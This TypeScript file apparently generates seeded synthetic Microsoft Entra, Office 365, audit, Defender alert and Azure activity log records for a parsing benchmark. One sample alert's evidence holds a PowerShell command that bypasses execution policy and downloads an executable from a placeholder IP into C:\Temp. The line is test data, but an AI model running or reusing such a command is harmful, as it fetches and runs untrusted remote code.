import { Random } from './random.ts'

/**
 * W1, by count: Entra sign-ins 25 %, Office 365 a third (SharePoint 20 %, Exchange 13 %), directory audits with JSON inside
 * strings 17 %, Graph alerts with two pieces of evidence each 10 %, Azure activity 15 %. Records of 1,500 to 2,600 bytes, 40 %
 * of them with a character beyond ASCII; written on one line, as the sources do. W2: sign-ins of about 12,000 bytes, the average that Microsoft publishes, with 38
 * conditional access policies each. Both are made from a fixed seed, so that every run measures the same bytes.
 */
export const weights = { signIn: 25, sharePoint: 20, exchange: 13, audit: 17, alert: 10, activity: 15 } as const

const cities = [
  'Zürich',
  'São Paulo',
  'Berlin',
  'Paris',
  'Kraków',
  'Oslo',
  'Madrid',
  'Łódź',
  'Lyon',
  'Porto',
  'Gent',
] as const
const names = ['ana.silva', 'jürgen.groß', 'm.kowalska', 'lee.wong', 'p.dubois', 'olga.ivanova'] as const
const agents = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
] as const

const tenant = '8f0c2a52-6a3b-4d18-9d1e-5c1f7a3b2e10'

function time(r: Random): string {
  const two = (n: number): string => String(n).padStart(2, '0')
  return `2026-06-${two(1 + r.below(28))}T${two(r.below(24))}:${two(r.below(60))}:${two(r.below(60))}.${String(1 + r.below(8_999_998)).padStart(7, '0')}Z`
}

const user = (r: Random): { upn: string; id: string; name: string } => {
  const name = r.pick(names)
  return { upn: `${name}@contoso.example`, id: r.guid(), name: name.replace('.', ' ') }
}

function policies(r: Random, count: number): object[] {
  return Array.from({ length: count }, (_, i) => ({
    id: r.guid(),
    displayName: `CA${String(i).padStart(3, '0')}: Require multifactor authentication for ${r.pick(['all users', 'guests', 'administrators'])}`,
    enforcedGrantControls: ['Mfa', 'RequireCompliantDevice'],
    enforcedSessionControls: ['SignInFrequency'],
    result: r.pick(['success', 'failure', 'notApplied', 'reportOnlyNotApplied']),
  }))
}

function signIn(r: Random, policyCount = 1): object {
  const u = user(r)
  const failed = r.below(5) === 0
  return {
    id: r.guid(),
    createdDateTime: time(r),
    userDisplayName: u.name,
    userPrincipalName: u.upn,
    userId: u.id,
    appId: r.guid(),
    appDisplayName: 'Office 365 Exchange Online',
    ipAddress: r.address(),
    clientAppUsed: r.pick(['Browser', 'Mobile Apps and Desktop clients']),
    userAgent: r.pick(agents),
    correlationId: r.guid(),
    conditionalAccessStatus: r.pick(['success', 'failure', 'notApplied']),
    originalRequestId: r.guid(),
    isInteractive: true,
    tokenIssuerName: '',
    tokenIssuerType: 'AzureAD',
    processingTimeInMilliseconds: r.below(900) + 1,
    riskDetail: 'none',
    riskLevelAggregated: r.pick(['none', 'low', 'high']),
    riskLevelDuringSignIn: 'none',
    riskState: 'none',
    riskEventTypes_v2: [],
    autonomousSystemNumber: 3303,
    crossTenantAccessType: 'none',
    incomingTokenType: 'none',
    signInEventTypes: ['interactiveUser'],
    uniqueTokenIdentifier: r.hex(22),
    resourceDisplayName: 'Office 365 Exchange Online',
    resourceId: r.guid(),
    resourceTenantId: tenant,
    homeTenantId: tenant,
    authenticationRequirement: 'multiFactorAuthentication',
    signInIdentifier: u.upn,
    status: {
      errorCode: failed ? 50126 : 0,
      failureReason: failed ? 'Invalid username or password or Invalid on-premise username or password.' : 'Other.',
      additionalDetails: 'MFA requirement satisfied by claim in the token',
    },
    deviceDetail: {
      deviceId: r.guid(),
      displayName: `DESKTOP-${r.hex(6)}`,
      operatingSystem: 'Windows 11',
      browser: 'Edge 126.0.0',
      isCompliant: true,
      isManaged: true,
      trustType: 'Azure AD joined',
    },
    location: {
      city: r.pick(cities),
      state: r.pick(['Zürich', 'Berlin', 'Mazowieckie', 'Lisboa']),
      countryOrRegion: 'CH',
      geoCoordinates: { altitude: null, latitude: 47.36667, longitude: 8.55 },
    },
    appliedConditionalAccessPolicies: policies(r, policyCount),
  }
}

function o365(r: Random, workload: string, type: number, operation: string): Record<string, unknown> {
  const u = user(r)
  return {
    CreationTime: time(r).slice(0, 19),
    Id: r.guid(),
    Operation: operation,
    OrganizationId: tenant,
    RecordType: type,
    UserKey: `i:0h.f|membership|${r.hex(16)}@live.com`,
    UserType: 0,
    Version: 1,
    Workload: workload,
    ClientIP: r.address(),
    UserId: u.upn,
  }
}

function sharePoint(r: Random): object {
  const file = `Jahresbericht ${r.below(100)} = Entwurf.docx`
  const site = 'https://contoso.sharepoint.example/sites/finance'
  return {
    ...o365(r, r.pick(['SharePoint', 'OneDrive']), 6, r.pick(['FileAccessed', 'FileDownloaded', 'FileModified'])),
    ObjectId: `${site}/Shared Documents/${r.pick(cities)}/${file}`,
    CorrelationId: r.guid(),
    EventSource: 'SharePoint',
    ItemType: 'File',
    ListId: r.guid(),
    ListItemUniqueId: r.guid(),
    Site: r.guid(),
    UserAgent: r.pick(agents),
    WebId: r.guid(),
    SourceFileExtension: 'docx',
    SiteUrl: `${site}/`,
    SourceFileName: file,
    SourceRelativeUrl: `Shared Documents/${r.pick(cities)}`,
    AppAccessContext: {
      AADSessionId: r.guid(),
      ClientAppId: r.guid(),
      ClientAppName: 'OneDrive SyncEngine',
      CorrelationId: r.guid(),
      UniqueTokenId: r.hex(22),
    },
    ApplicationDisplayName: 'Microsoft OneDrive Sync Engine',
    BrowserName: 'Edge',
    BrowserVersion: '126.0.0.0',
    DoNotDistributeEvent: true,
    FromApp: false,
    GeoLocation: 'EUR',
    IsManagedDevice: true,
    ListBaseType: 1,
    ListServerTemplate: 700,
    Platform: 'WinDesktop',
    MachineDomainInfo: r.guid(),
    MachineId: r.guid(),
  }
}

function exchange(r: Random): object {
  return {
    ...o365(r, 'Exchange', 1, r.pick(['Set-Mailbox', 'New-InboxRule', 'Add-MailboxPermission'])),
    ResultStatus: 'True',
    ObjectId: `EURPR01A001.PROD.OUTLOOK.COM/Microsoft Exchange Hosted Organizations/contoso.example/${r.pick(names)}`,
    ExternalAccess: false,
    OrganizationName: 'contoso.example',
    OriginatingServer: 'DB9PR01MB1234 (15.20.7677.026)',
    AppId: r.guid(),
    ClientAppId: '',
    Parameters: [
      { Name: 'Identity', Value: `${r.pick(names)}@contoso.example` },
      { Name: 'Name', Value: 'Verschieben nach "Rechnungen\\2026"' },
      { Name: 'MoveToFolder', Value: 'Archive' },
      { Name: 'SubjectContainsWords', Value: 'Rechnung; invoice; payment = due' },
      { Name: 'StopProcessingRules', Value: 'True' },
      { Name: 'AlwaysDeleteOutlookRulesBlob', Value: 'False' },
      { Name: 'Force', Value: 'False' },
    ],
    AppAccessContext: { AADSessionId: r.guid(), IssuedAtTime: time(r).slice(0, 19), UniqueTokenId: r.hex(22) },
    RequestId: r.guid(),
    SessionId: r.guid(),
    TokenTenantId: tenant,
    DeviceId: r.guid(),
  }
}

function audit(r: Random): object {
  const u = user(r)
  const target = user(r)
  return {
    id: `Directory_${r.guid()}_${r.hex(5).toUpperCase()}_${r.below(100_000_000)}`,
    category: r.pick(['UserManagement', 'GroupManagement', 'RoleManagement']),
    correlationId: r.guid(),
    result: 'success',
    resultReason: '',
    activityDisplayName: r.pick(['Update user', 'Add member to group', 'Add member to role', 'Reset user password']),
    activityDateTime: time(r),
    loggedByService: 'Core Directory',
    operationType: 'Update',
    initiatedBy: {
      user: {
        id: u.id,
        displayName: u.name,
        userPrincipalName: u.upn,
        ipAddress: r.address(),
        userType: 'Member',
        homeTenantId: tenant,
        homeTenantName: 'Contoso',
      },
      app: null,
    },
    targetResources: [
      {
        id: target.id,
        displayName: target.name,
        type: 'User',
        userPrincipalName: target.upn,
        groupType: null,
        modifiedProperties: [
          { displayName: 'StrongAuthenticationMethod', oldValue: '[]', newValue: '[{"MethodType":6,"Default":true}]' },
          { displayName: 'Included Updated Properties', oldValue: null, newValue: '"StrongAuthenticationMethod"' },
          {
            displayName: 'StrongAuthenticationPhoneAppDetail',
            oldValue: '[]',
            newValue: `[{"DeviceName":"iPhone","DeviceToken":"apns2-${r.hex(32)}","PhoneAppVersion":"6.8.15","AuthenticationType":3,"Id":"${r.guid()}"}]`,
          },
          { displayName: 'TargetId.UserType', oldValue: null, newValue: '"Member"' },
        ],
      },
    ],
    additionalDetails: [
      { key: 'UserType', value: 'Member' },
      { key: 'User-Agent', value: r.pick(agents) },
    ],
  }
}

function alert(r: Random): object {
  const u = user(r)
  const at = time(r)
  const host = `ws-${r.hex(6)}`
  return {
    id: `da${r.below(1_000_000_000)}_-${r.below(1_000_000_000)}`,
    providerAlertId: `${r.below(1_000_000_000)}_-1`,
    incidentId: String(r.below(100_000)),
    status: 'new',
    severity: r.pick(['informational', 'low', 'medium', 'high']),
    classification: null,
    determination: null,
    serviceSource: 'microsoftDefenderForEndpoint',
    detectionSource: 'antivirus',
    productName: 'Microsoft Defender for Endpoint',
    detectorId: r.guid(),
    tenantId: tenant,
    title: 'Suspicious PowerShell command line',
    description:
      'A suspicious PowerShell activity was observed on the machine.\r\nThis behavior may indicate that PowerShell was used during installation, exploration, or in some cases in lateral movement activities.',
    recommendedActions:
      '1. Examine the PowerShell command line to understand what commands were executed.\n2. Submit undetected files to the MMPC malware portal.',
    category: 'Execution',
    assignedTo: null,
    alertWebUrl: `https://security.microsoft.com/alerts/da${r.below(1_000_000_000)}?tid=${tenant}`,
    incidentWebUrl: `https://security.microsoft.com/incidents/${r.below(100_000)}?tid=${tenant}`,
    actorDisplayName: null,
    mitreTechniques: ['T1059.001', 'T1105'],
    createdDateTime: at,
    lastUpdateDateTime: at,
    firstActivityDateTime: at,
    lastActivityDateTime: at,
    comments: [],
    evidence: [
      {
        '@odata.type': '#microsoft.graph.security.deviceEvidence',
        createdDateTime: at,
        verdict: 'unknown',
        remediationStatus: 'none',
        roles: ['attacked'],
        mdeDeviceId: r.hex(40),
        deviceDnsName: `${host}.contoso.example`,
        hostName: host,
        osPlatform: 'Windows11',
        version: '23H2',
        healthStatus: 'active',
        riskScore: 'high',
        lastIpAddress: '192.0.2.14',
      },
      {
        '@odata.type': '#microsoft.graph.security.processEvidence',
        createdDateTime: at,
        verdict: 'suspicious',
        remediationStatus: 'none',
        roles: [],
        processId: 4780 + r.below(100),
        processCommandLine: `powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "$a = 'x'; Invoke-WebRequest -Uri http://203.0.113.7/${r.hex(6)} -OutFile C:\\Temp\\a.exe"`,
        imageFile: {
          fileName: 'powershell.exe',
          filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
          sha256: r.hex(64),
        },
        userAccount: { accountName: u.name, domainName: 'CONTOSO', userPrincipalName: u.upn, azureAdUserId: u.id },
      },
    ],
  }
}

function activity(r: Random): object {
  const u = user(r)
  const sub = r.guid()
  const id = `/SUBSCRIPTIONS/${sub.toUpperCase()}/RESOURCEGROUPS/PROD/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINES/VM${r.below(500)}`
  return {
    time: time(r),
    resourceId: id,
    operationName: r.pick(['MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE', 'MICROSOFT.COMPUTE/VIRTUALMACHINES/DELETE']),
    category: 'Administrative',
    resultType: r.pick(['Start', 'Success', 'Failure']),
    resultSignature: 'Accepted.Created',
    durationMs: '0',
    callerIpAddress: r.address(),
    correlationId: r.guid(),
    identity: {
      authorization: {
        scope: id,
        action: 'Microsoft.Compute/virtualMachines/write',
        evidence: {
          role: 'Contributor',
          roleAssignmentScope: `/subscriptions/${sub}`,
          roleAssignmentId: r.hex(32),
          roleDefinitionId: r.hex(32),
          principalId: r.hex(32),
          principalType: 'User',
        },
      },
      claims: {
        aud: 'https://management.core.windows.net/',
        iss: `https://sts.windows.net/${tenant}/`,
        'http://schemas.microsoft.com/identity/claims/objectidentifier': u.id,
        'http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn': u.upn,
        name: u.name,
        appid: r.guid(),
        ver: '1.0',
      },
    },
    level: 'Information',
    location: 'global',
    properties: {
      eventCategory: 'Administrative',
      entity: id,
      message: 'Microsoft.Compute/virtualMachines/write',
      hierarchy: `${tenant}/${sub}`,
      statusCode: 'Created',
      serviceRequestId: r.guid(),
    },
    tenantId: tenant,
  }
}

const makers: Readonly<Record<keyof typeof weights, (r: Random) => object>> = {
  signIn,
  sharePoint,
  exchange,
  audit,
  alert,
  activity,
}

/** W1 as lines. */
export function mixed(count: number, seed = 20260601): Buffer[] {
  const r = new Random(seed)
  const kinds = Object.entries(weights).flatMap(([kind, weight]) =>
    Array<keyof typeof weights>(weight).fill(kind as keyof typeof weights),
  )
  return Array.from({ length: count }, () => Buffer.from(JSON.stringify(makers[r.pick(kinds)](r))))
}

/** W2 as lines. */
export function largeSignIns(count: number, seed = 20260602): Buffer[] {
  const r = new Random(seed)
  return Array.from({ length: count }, () => Buffer.from(JSON.stringify(signIn(r, 38))))
}
